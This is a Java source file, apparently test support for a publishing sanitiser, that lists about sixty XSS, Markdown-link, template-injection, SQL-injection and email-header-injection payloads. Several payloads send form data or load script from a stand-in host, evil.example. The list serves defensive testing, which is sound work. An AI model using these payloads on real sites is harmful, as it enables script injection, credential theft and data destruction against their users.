package org.csoalliance.publishing;

import java.util.List;
import java.util.stream.Stream;

/** What attackers write into fields, in Markdown and in HTML. */
final class Payloads {
  static final List<String> ALL =
      List.of(
          "<script>alert(1)</script>",
          "<ScRiPt src=//evil.example/x.js></sCrIpT>",
          "<img src=x onerror=alert(1)>",
          "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<svg><script>alert(1)</script></svg>",
          "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
          "<iframe src=\"javascript:alert(1)\"></iframe>",
          "<iframe srcdoc=\"<script>alert(1)</script>\">",
          "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
          "<embed src=\"javascript:alert(1)\">",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
          "<body onload=alert(1)>",
          "<form action=\"https://evil.example\"><input name=password></form>",
          "<style>*{background:url(https://evil.example)}</style>",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
          "<base href=\"https://evil.example/\">",
          "<details open ontoggle=alert(1)>",
          "<video><source onerror=alert(1)>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<template><script>alert(1)</script></template>",
          "[x](javascript:alert(1))",
          "[x](JaVaScRiPt:alert(1))",
          "[x](java\nscript:alert(1))",
          "[x](javascript&colon;alert(1))",
          "[x](&#106;avascript:alert(1))",
          "[x](&#x6A;&#x61;vascript:alert(1))",
          "[x](  javascript:alert(1))",
          "[x](vbscript:msgbox(1))",
          "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
          "[x](data:image/svg+xml,<svg onload=alert(1)>)",
          "[x](file:///etc/passwd)",
          "[x](blob:https://evil.example/1)",
          "[x](//evil.example/x)",
          "[x](/\\evil.example/x)",
          "[x](\\\\evil.example\\x)",
          "[x](\u0001javascript:alert(1))",
          "[x]: javascript:alert(1)\n\n[x]",
          "<javascript:alert(1)>",
          "<data:text/html,x>",
          "![x](javascript:alert(1))",
          "![x](https://evil.example/pixel.gif)",
          "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
          "![x\" onerror=\"alert(1)](picture:1)",
          "![x](picture:1 \"a\" onerror=alert(1))",
          "![x](picture:1/../../x)",
          "[x](https://ok.example/\" onmouseover=\"alert(1))",
          "[x](https://ok.example/?a=`onmouseover=alert(1)`)",
          "`</code><script>alert(1)</script>`",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "#{7*7} ${7*7} <%= 7*7 %> {{7*7}}",
          "'; drop table bulletin; --",
          "\u202ealert(1)\u202c",
          "Subject\r\nBcc: all@evil.example\r\n\r\n<script>alert(1)</script>",
          "[a](https://ok.example)<img/src/onerror=alert(1)>",
          "* <p/onclick=alert(1)>x</p>",
          "> <textarea autofocus onfocus=alert(1)>",
          "# <h1 style=\"position:fixed\" id=main>x</h1>");

  private Payloads() {}

  static Stream<String> all() {
    return ALL.stream();
  }
}
